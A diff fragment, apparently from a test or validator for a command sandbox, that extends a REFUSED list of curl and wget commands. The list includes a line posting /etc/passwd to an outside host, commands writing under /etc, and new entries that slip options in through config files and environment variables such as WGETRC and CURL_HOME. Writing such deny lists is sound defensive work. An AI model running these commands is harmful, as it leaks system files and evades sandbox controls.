@@ -64,6 +64,11 @@ REFUSED = [
     "curl --trace /etc/x https://example.org",
     "wget --post-file=/etc/passwd https://example.org",
     "wget --save-cookies /etc/x https://example.org",
+    "wget -e 'output_document=/etc/x' https://example.org",
+    "wget --config=cfg https://example.org",
+    "WGETRC=cfg wget https://example.org",
+    "CURL_HOME=. curl https://example.org",
+    "curl -sK cfg https://example.org",
 ]
 
 
